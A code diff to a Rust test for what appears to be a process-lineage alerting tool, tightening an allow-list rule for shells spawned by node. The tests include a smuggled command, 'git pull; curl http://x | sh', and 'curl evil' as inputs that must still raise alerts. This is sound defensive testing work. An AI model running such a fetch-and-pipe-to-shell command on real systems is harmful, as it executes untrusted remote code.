@@ -126,10 +126,16 @@ mod tests {
     #[test]
     fn allow_list_silences_a_known_good_pattern() {
         let l = lineage(
-            "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git \"\n",
+            "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git (pull|fetch)\"\n",
         );
         let sh = culprit(20, "sh", &[(10, "node")]);
         assert!(l.on_exec(&sh, &argv("sh -c git pull")).is_none());
+        // The pattern covers the whole argument string: nothing may ride along.
+        assert!(
+            l.on_exec(&sh, &argv("sh -c git pull; curl http://x | sh"))
+                .is_some()
+        );
+        assert!(l.on_exec(&sh, &argv("sh -c git fetch --all")).is_some());
         // Other arguments, another shell or another server are still alerts.
         assert!(l.on_exec(&sh, &argv("sh -c curl evil")).is_some());
         assert!(
